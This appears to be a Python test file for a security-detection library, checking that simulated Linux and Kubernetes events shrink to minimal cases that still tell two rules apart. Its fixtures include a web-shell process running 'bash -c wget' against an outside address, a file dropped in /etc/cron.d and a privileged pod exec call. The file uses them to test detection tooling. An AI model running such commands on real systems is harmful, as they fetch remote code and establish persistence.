"""What is left of an activity still shows the difference, is no larger, and cannot be made smaller the same way."""

from __future__ import annotations

from dataclasses import replace
from itertools import count
from typing import TYPE_CHECKING

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st
from tests.events.strategies import linux_activities

from ruleglot.diagnostics.diagnostic import DiagnosticError
from ruleglot.diagnostics.evaluation import PatternTooLong
from ruleglot.equivalence.shrinking import shrunk, size
from ruleglot.events.activity import Access, Exec, FileCreate, FileOpen, FileWrite
from ruleglot.events.activity.kubernetes import ApiCall, ObjectReference, Verb
from ruleglot.events.descriptors import Descriptor, OpenFile
from ruleglot.events.kubernetes.callers import Caller
from ruleglot.events.library import repertoire
from ruleglot.events.scenes.cast import BASH, BOB, ROOT, WEB_SHELL, started

if TYPE_CHECKING:
    from collections.abc import Callable

    from ruleglot.events.activity import Activity, LinuxActivity

ENOUGH = 100_000
"""More than any activity of the tests needs."""

WANTED: tuple[Callable[[LinuxActivity], bool], ...] = (
    lambda _: True,
    lambda each: each.process.container is not None,
    lambda each: each.process.terminal is not None,
    lambda each: each.process.user.id == 0,
    lambda each: len(each.process.argv) > 2,
    lambda each: "-c" in each.process.argv,
    lambda each: "a" in each.process.executable,
    lambda each: each.process.executable.count("/") > 2,
    lambda each: sum(1 for _ in each.process.ancestors) > 1,
    lambda each: any(each.process.descriptors),
    lambda each: getattr(each, "full_path", "").endswith("x"),
    lambda each: getattr(each, "error", None) is not None,
)
"""What a rule might fire on."""


def never(_: Activity) -> bool:
    return False


@given(linux_activities(), st.sampled_from(WANTED), st.booleans())
def test_the_same_rule_fires_alone_and_the_activity_is_no_larger(
    activity: LinuxActivity, fires: Callable[[LinuxActivity], bool], broader: bool
) -> None:
    assume(fires(activity))
    rules = (never, fires) if broader else (fires, never)
    small = shrunk(activity, *rules)
    assert fires(small)  # type: ignore[arg-type] # the activities are those of Linux
    assert type(small) is type(activity)
    assert size(small) <= size(activity)
    assert small.story == activity.story


@given(linux_activities(), st.sampled_from(WANTED))
def test_shrinking_again_changes_nothing(activity: LinuxActivity, fires: Callable[[LinuxActivity], bool]) -> None:
    assume(fires(activity))
    small = shrunk(activity, never, fires, ENOUGH)  # type: ignore[arg-type] # as above
    assert shrunk(small, never, fires, ENOUGH) == small  # type: ignore[arg-type] # as above


@given(linux_activities(), st.integers(0, 40))
def test_no_more_activities_are_tried_than_allowed(activity: LinuxActivity, most: int) -> None:
    tried = count(-2)  # the activity itself is asked of both rules first

    def asked(each: Activity) -> bool:
        next(tried)
        return size(each) > 10

    assume(size(activity) > 10)
    shrunk(activity, never, asked, most)
    assert next(tried) <= most


@pytest.mark.parametrize("activity", repertoire()[::25], ids=lambda each: each.story)
def test_of_an_activity_that_anything_fires_on_hardly_anything_is_left(activity: Activity) -> None:
    assert size(shrunk(activity, never, lambda _: True, ENOUGH)) <= 40
    assert size(shrunk(activity, never, lambda _: True)) <= min(size(activity), 40)


def test_what_the_difference_hangs_on_stays() -> None:
    shell = started(WEB_SHELL, "/usr/bin/bash", "bash", "-c", "wget  http://203.0.113.7/a", "x")
    run = Exec(process=shell, story="")
    small = shrunk(run, lambda each: "wget" in each.process.command_line, lambda _: False).process  # type: ignore[union-attr] # a process runs
    assert (small.executable, small.parent, small.container, small.terminal) == ("/usr/bin/x", None, None, None)
    assert small.argv[1:] == ("wget",)
    named = shrunk(run, lambda each: each.process.name == "bash", lambda _: False).process  # type: ignore[union-attr] # as above
    assert (named.executable, named.argv, named.user) == ("/bash", ("x",), BOB)
    rooted = shrunk(run, never, lambda each: each.process.user == ROOT).process  # type: ignore[union-attr] # as above
    assert rooted.user == ROOT


def test_an_ancestor_in_between_is_left_out() -> None:
    shell = started(BASH, "/usr/bin/python3.11", "python3", pid=4000)
    run = Exec(process=started(shell, "/usr/bin/curl", "curl", pid=4001), story="")
    small = shrunk(run, never, lambda each: any(one.name == "sshd" for one in each.process.ancestors)).process  # type: ignore[union-attr] # as above
    assert [each.executable for each in small.line] == ["/usr/bin/x", "/sshd"]


def test_paths_stay_absolute_and_a_call_stays_the_one_it_was() -> None:
    made = FileCreate(process=BASH, path="/etc/cron.d/backup.sh", story="")
    small = shrunk(made, lambda each: each.full_path.startswith("/etc/"), never)  # type: ignore[union-attr] # a file is made
    assert isinstance(small, FileCreate)
    assert len(small.path) == len("/etc/x")
    opened = FileOpen(process=BASH, path="notes", access=Access.APPEND, story="")
    assert getattr(shrunk(opened, never, lambda _: True), "access", None) is Access.READ


def test_what_is_open_is_changed_wherever_it_stands() -> None:
    log = Descriptor(number=5, opened=OpenFile(path="/var/log/auth.log"))
    written = FileWrite(process=replace(BASH, descriptors=(log,)), descriptor=log, data=b"x" * 9, story="")
    small = shrunk(written, never, lambda each: str(each.descriptor.opened).endswith(".log"))  # type: ignore[union-attr] # what is written is open
    assert isinstance(small, FileWrite)
    assert (str(small.descriptor.opened), small.data) == ("/.log", b"")


def test_a_call_to_a_cluster_shrinks_too() -> None:
    target = ObjectReference(resource="pods", namespace="prod", name="web-0", subresource="exec")
    eve = Caller(name="system:admin", own_groups=("ops", "system:masters"))
    call = ApiCall(
        story="", user=eve, verb=Verb.GET, target=target, query=(("command", "sh"), ("tty", "true")), user_agent="curl"
    )
    small = shrunk(call, never, lambda each: "exec" in each.request_uri)  # type: ignore[union-attr] # a call
    assert isinstance(small, ApiCall)
    assert (small.query, small.user_agent, small.user) == ((), None, Caller(name="bob"))
    assert "/exec" in small.request_uri


def test_an_activity_on_which_a_rule_cannot_be_asked_shows_nothing() -> None:
    def fires(each: Activity) -> bool:
        if not getattr(each, "path", "").endswith("x"):
            raise DiagnosticError(PatternTooLong(parts=1, span=None))
        return True

    small = shrunk(FileCreate(process=BASH, path="/tmp/abcx", story=""), fires, never)
    assert getattr(small, "path", "").endswith("x")


def test_rules_that_do_not_part_are_no_difference() -> None:
    with pytest.raises(ValueError, match="do not part"):
        shrunk(Exec(process=BASH, story=""), never, never)


def test_size_counts_what_is_not_plain() -> None:
    plain = shrunk(Exec(process=BASH, story=""), never, lambda _: True)
    assert isinstance(plain, Exec)
    assert size(replace(plain, story="any")) == size(plain)
    longer = replace(plain, process=replace(plain.process, cwd="/ab"))
    assert size(longer) == size(plain) + len("/ab") + 1  # the text, and that there is one
